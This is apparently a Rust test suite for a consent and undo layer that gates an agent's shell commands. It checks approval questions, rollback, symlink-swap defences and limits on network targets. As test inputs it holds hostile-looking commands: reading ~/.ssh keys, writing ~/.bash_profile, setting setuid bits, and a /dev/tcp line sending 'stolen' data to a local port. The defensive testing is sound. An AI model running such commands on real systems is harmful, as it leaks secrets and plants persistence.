//! Commands as transactions: their output, their changes and their questions, in views and without.

use std::fs;

use artoo_proto::{CallStatus, ConsentScope, EffectClass, ToolOrder, ToolOutcome};
use serde_json::json;

use super::{Fixture, called, snapshot, task};
use crate::undo::UndoConfig;

/// A fixture with an undo journal and some files; `views`: whether commands run in views.
pub(super) fn fixture(views: bool) -> Fixture {
    let fixture = Fixture::with(|config| {
        config.views = views;
        let data = std::path::Path::new(&config.environment.home).join(".artoo");
        config.undo = Some(UndoConfig::new(data.join("undo")));
    });
    fixture.file("work/a.txt", "one\ntwo\n");
    fixture.file("work/d/b.txt", "three\n");
    fixture.file(".ssh/id_rsa", "KEY");
    fixture
}

/// The order of a shell command in the task of the fixture.
pub(super) fn order(command: &str) -> ToolOrder {
    ToolOrder { task_id: task(), ..Fixture::context("shell", json!({"command": command})) }
}

/// A question: its digest, effects and reason.
struct Asked {
    hash: artoo_proto::ConsentHash,
    effects: String,
    reason: String,
}

/// The digest, effects and reason of the question about a command; panics if there is none.
async fn asked(fixture: &Fixture, command: &str) -> Asked {
    match fixture.outcome(&order(command), None).await {
        ToolOutcome::NeedsConsent { hash, effects, reason, .. } => Asked { hash, effects: effects.join("\n"), reason },
        ToolOutcome::Called { call } => panic!("{command} was not asked about: {call:?}"),
    }
}

/// A command that changes nothing runs without approval.
#[tokio::test]
async fn command_without_changes_runs_unasked() {
    for views in [true, false] {
        let fixture = fixture(views);
        let before = snapshot(&fixture.home.join("work"));
        for (command, output) in [("cat a.txt", "one\ntwo\n"), ("wc -l < a.txt", "2\n"), ("ls", "a.txt\nd\n")] {
            let call = called(fixture.outcome(&order(command), None).await);
            let found = (call.status, call.class, call.output.as_str(), call.changes_known);
            assert_eq!(found, (CallStatus::Ok, EffectClass::ReadOnly, output, true), "{command}");
        }
        let question = asked(&fixture, "cat ~/.ssh/*").await;
        assert!(question.reason.contains(".ssh may hold secrets"), "{}", question.reason);
        assert_eq!(snapshot(&fixture.home.join("work")), before);
    }
}

/// New workspace files of a command are committed without approval and removed by an undo.
#[tokio::test]
async fn new_workspace_files_are_committed_and_undone() {
    let fixture = fixture(true);
    let call =
        called(fixture.outcome(&order("cd ~/artoo_workspace && mkdir n && echo x > n/f && ln -s f n/l"), None).await);
    assert_eq!(
        (call.status, call.class, call.changes_known),
        (CallStatus::Ok, EffectClass::Creating, true),
        "{call:?}"
    );
    assert_eq!(fs::read_to_string(fixture.workspace().join("n/f")).unwrap(), "x\n");
    assert!(call.changed.iter().any(|change| change.path.ends_with("n/f") && change.before.is_none()), "{call:?}");
    fixture.undo();
    assert!(!fixture.workspace().join("n").exists());
}

/// Questions show the changes of a command; nothing is changed before approval, and exactly these changes after it.
#[tokio::test]
async fn questions_show_changes_committed_after_approval() {
    for views in [true, false] {
        let fixture = fixture(views);
        let work = fixture.home.join("work");
        let before = snapshot(&work);
        for (command, said) in [
            ("rm a.txt", "a.txt"),
            ("f=a.txt; rm \"$f\"", "a.txt"),
            ("sed -i s/one/1/ a.txt", if views { "a.txt" } else { "work" }),
            ("mv d e", if views { "d" } else { "work" }),
            ("find . -delete", "a.txt"),
            ("python3 -c 'import os; os.remove(\"a.txt\")'", "a.txt"),
        ] {
            let question = asked(&fixture, command).await;
            assert!(question.effects.contains(said), "{command}: {} {}", question.effects, question.reason);
            assert_eq!(snapshot(&work), before, "{command}");
            fixture.registry.refuse(&task(), &question.hash);
            let again = called(fixture.outcome(&order(command), None).await);
            assert_eq!(again.status, CallStatus::Denied, "{command}: {again:?}");
            fixture.registry.forget(&task());
        }
        let question = asked(&fixture, "rm a.txt && echo done").await;
        let grant = fixture.registry.grant(&question.hash, ConsentScope::Once);
        let call = called(fixture.outcome(&order("rm a.txt && echo done"), Some(grant)).await);
        assert_eq!((call.status, call.output.trim()), (CallStatus::Ok, "done"), "{call:?}");
        assert!(!work.join("a.txt").exists());
        assert!(call.changed.iter().any(|change| change.path.ends_with("a.txt") && change.after.is_none()), "{call:?}");
    }
}

/// A file that was changed after the question is not overwritten: the commit fails.
#[tokio::test]
async fn files_changed_since_the_question_stay() {
    let fixture = fixture(true);
    let question = asked(&fixture, "sed -i s/one/1/ a.txt").await;
    fixture.file("work/a.txt", "mine\n");
    let grant = fixture.registry.grant(&question.hash, ConsentScope::Once);
    let call = called(fixture.outcome(&order("sed -i s/one/1/ a.txt"), Some(grant)).await);
    assert_eq!(call.status, CallStatus::Failed, "{call:?}");
    assert_eq!(fs::read_to_string(fixture.home.join("work/a.txt")).unwrap(), "mine\n");
}

/// A command that only names the workspace leaves none behind; if it writes a file there, the workspace remains.
#[tokio::test]
async fn unused_workspace_is_not_left_behind() {
    for views in [true, false] {
        let fixture = fixture(views);
        for command in ["ls ~/artoo_workspace", "test -d ~/artoo_workspace", "echo artoo_workspace"] {
            let call = called(fixture.outcome(&order(command), None).await);
            assert_eq!(call.status, CallStatus::Ok, "{command}: {call:?}");
            assert!(!fixture.workspace().exists(), "{command}");
        }
        let question = asked(&fixture, "ls ~/artoo_workspace; rm a.txt").await;
        fixture.registry.refuse(&task(), &question.hash);
        assert!(!fixture.workspace().exists());
        fixture.registry.forget(&task());
        let call = fixture.allowed("echo x > ~/artoo_workspace/f").await;
        assert_eq!(call.status, CallStatus::Ok, "{call:?}");
        assert_eq!(fs::read_to_string(fixture.workspace().join("f")).unwrap(), "x\n");
    }
}

/// Setting set-user-id or set-group-id bits always needs approval.
#[tokio::test]
async fn set_id_bits_are_asked_about() {
    let fixture = fixture(true);
    fs::create_dir_all(fixture.workspace()).unwrap();
    let before = [snapshot(&fixture.workspace()), snapshot(&fixture.home.join("work"))];
    for command in [
        "chmod u+s a.txt",
        "chmod g+s a.txt",
        "chmod 4755 d/b.txt",
        "cd ~/artoo_workspace && cp /bin/true t && chmod u+s t",
        "cd ~/artoo_workspace && mkdir s && chmod g+s s",
    ] {
        let question = asked(&fixture, command).await;
        assert!(!question.reason.is_empty(), "{command}");
        fixture.registry.refuse(&task(), &question.hash);
        fixture.registry.forget(&task());
        assert_eq!([snapshot(&fixture.workspace()), snapshot(&fixture.home.join("work"))], before, "{command}");
        assert_eq!(mode(&fixture.home.join("work/a.txt")) & 0o7000, 0, "{command}");
    }
}

/// The permission bits of a path.
fn mode(path: &std::path::Path) -> u32 {
    std::os::unix::fs::PermissionsExt::mode(&fs::metadata(path).unwrap().permissions())
}

/// The outcome of a command after the user has approved this question about it.
async fn approved(fixture: &Fixture, command: &str, question: &Asked) -> ToolOutcome {
    let grant = fixture.registry.grant(&question.hash, ConsentScope::Once);
    fixture.outcome(&order(command), Some(grant)).await
}

/// The second question about a command, asked after the first one was approved; panics if there is none.
async fn asked_further(fixture: &Fixture, command: &str) -> Asked {
    let first = asked(fixture, command).await;
    match approved(fixture, command, &first).await {
        ToolOutcome::NeedsConsent { hash, effects, reason, .. } => Asked { hash, effects: effects.join("\n"), reason },
        ToolOutcome::Called { call } => panic!("{command} was not asked about again: {call:?}"),
    }
}

/// Access denied after the run has made changes: the changes are undone, and a question asks for the access.
#[tokio::test]
async fn later_denials_are_undone_and_asked_about() {
    for (command, made, named) in [
        ("rm a.txt && echo x > d/n", "work/d/n", "work/d"),
        ("rm a.txt; test -e a.txt || mkdir ~/made", "made", "made"),
        ("rm a.txt && cp d/b.txt c.txt", "work/c.txt", "work"),
        // The file could be run by its name before the command ends.
        ("rm ~/notes.txt && cp d/b.txt ~/.bash_profile", ".bash_profile", ".bash_profile"),
    ] {
        let fixture = fixture(false);
        fixture.file("notes.txt", "notes\n");
        let before = files(&fixture);
        let question = asked_further(&fixture, command).await;
        assert!(question.effects.contains(named), "{command}: {}", question.effects);
        assert!(question.reason.contains("undone"), "{command}: {}", question.reason);
        assert_eq!(files(&fixture), before, "{command}");
        let call = called(approved(&fixture, command, &question).await);
        assert_eq!(call.status, CallStatus::Ok, "{command}: {call:?}");
        assert!(fixture.home.join(made).exists(), "{command}");
        assert!(call.changed.iter().any(|change| change.path.ends_with(made)), "{command}: {call:?}");
        fixture.undo();
        assert_eq!(files(&fixture), before, "{command}");
    }
}

/// Every file of the home folder except artoo's own data.
fn files(fixture: &Fixture) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut all = snapshot(&fixture.home);
    all.retain(|(path, _)| !path.starts_with(fixture.home.join(".artoo")));
    all
}

/// An approval ends if a folder that it names was replaced or changed since.
#[tokio::test]
async fn replaced_folders_invalidate_an_approval() {
    let fixture = fixture(false);
    let (workspace, moved, victim) = (fixture.workspace(), fixture.home.join("moved"), fixture.home.join("victim"));
    let command = "rm ~/artoo_workspace/old; echo a > ~/artoo_workspace/new";
    /// A test's way to replace the first folder by another one, or by a link to it.
    type Replace = fn(&std::path::Path, &std::path::Path);
    let linked: Replace = |victim, workspace| std::os::unix::fs::symlink(victim, workspace).unwrap();
    let renamed: Replace = |victim, workspace| fs::rename(victim, workspace).unwrap();
    for replace in [linked, renamed] {
        for folder in [&workspace, &moved, &victim] {
            let _ = fs::remove_file(folder);
            let _ = fs::remove_dir_all(folder);
        }
        fixture.file("artoo_workspace/old", "old\n");
        fixture.file("victim/old", "old\n");
        let question = asked(&fixture, command).await;
        fs::rename(&workspace, &moved).unwrap();
        replace(&victim, &workspace);
        let call = called(approved(&fixture, command, &question).await);
        assert_eq!(call.status, CallStatus::Denied, "{call:?}");
        assert_eq!(fs::read_to_string(workspace.join("old")).unwrap(), "old\n");
        assert!(!workspace.join("new").exists());
        fixture.registry.forget(&task());
    }
}

/// A script that is found only while the command runs is part of the approval, and is not run if it was edited
/// afterwards.
#[tokio::test]
async fn scripts_found_while_running_are_approved() {
    let fixture = fixture(false);
    let script = fixture.file("work/x.sh", "rm a.txt");
    let command = ". ./$(echo x).sh";
    let question = asked(&fixture, command).await;
    fs::write(&script, "rm a.txt; rm -r d").unwrap();
    let call = called(approved(&fixture, command, &question).await);
    assert_eq!(call.status, CallStatus::Denied, "{call:?}");
    assert!(fixture.home.join("work/a.txt").exists() && fixture.home.join("work/d").exists());
}

/// After approval of a question that names an address, the command reaches that address and no other.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn only_the_approved_address_is_reached() {
    use std::net::TcpListener;
    for views in [true, false] {
        let fixture = fixture(views);
        let [a, b] = [0, 1].map(|_| TcpListener::bind("127.0.0.1:0").unwrap());
        let [one, other] = [&a, &b].map(|listener| listener.local_addr().unwrap());
        let command = format!(
            "h=127.0.0.1; exec 3<>/dev/tcp/$h/{} && exec 4<>/dev/tcp/$h/{} && echo stolen >&4",
            one.port(),
            other.port()
        );
        let mut question = asked(&fixture, &format!("bash -c '{command}'")).await;
        assert_eq!(question.reason, format!("it tried to connect to {one}"));
        let mut asked_for_other = false;
        for _ in 0..3 {
            let grant = fixture.registry.grant(&question.hash, ConsentScope::Once);
            match fixture.outcome(&order(&format!("bash -c '{command}'")), Some(grant)).await {
                ToolOutcome::NeedsConsent { hash, effects, reason, .. } => {
                    asked_for_other = reason == format!("it tried to connect to {other}");
                    question = Asked { hash, effects: effects.join("\n"), reason };
                }
                ToolOutcome::Called { call } => {
                    assert!(call.output.contains(&format!("it was not allowed to connect to {other}")), "{call:?}");
                    break;
                }
            }
            if asked_for_other {
                break;
            }
        }
        assert_eq!(asked_for_other, views, "{} {}", question.reason, question.effects);
        b.set_nonblocking(true).unwrap();
        assert!(b.accept().is_err(), "nothing reached the other address");
    }
}
